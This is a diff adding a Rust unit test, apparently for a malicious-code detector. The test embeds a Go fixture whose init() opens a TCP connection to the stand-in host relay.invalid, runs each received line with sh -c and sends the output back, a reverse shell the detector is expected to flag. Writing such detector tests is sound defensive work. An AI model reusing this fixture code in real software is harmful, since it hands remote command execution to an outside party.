@@ -222,3 +222,13 @@ fn a_decoded_list_that_spells_harmless_text_is_nothing() {
               \x20 def self.show\n    system('echo ' + text)\n  end\nend\n";
     assert_eq!(ends(&flows(&[("lib/greeting.rb", rb)])), vec![]);
 }
+
+#[test]
+fn go_commands_read_from_a_connection_and_run_by_a_shell_are_download_exec() {
+    let go = "package fix\n\nimport (\n\t\"bufio\"\n\t\"net\"\n\t\"os/exec\"\n)\n\n\
+              func init() {\n\tgo func() {\n\t\tc, _ := net.Dial(\"tcp\", \"relay.invalid:443\")\n\t\tr := bufio.NewReader(c)\n\
+              \t\tfor {\n\t\t\tcmd, err := r.ReadString('\\n')\n\t\t\tif err != nil {\n\t\t\t\treturn\n\t\t\t}\n\
+              \t\t\tout, _ := exec.Command(\"sh\", \"-c\", cmd).Output()\n\t\t\tc.Write(out)\n\t\t}\n\t}()\n}\n";
+    let out = flows(&[("fix/db.go", go)]);
+    assert_eq!(ends(&out), vec![(RuleId::DownloadExec, "fix/db.go".to_owned(), 18, Some("fix/db.go".to_owned()), 14)]);
+}
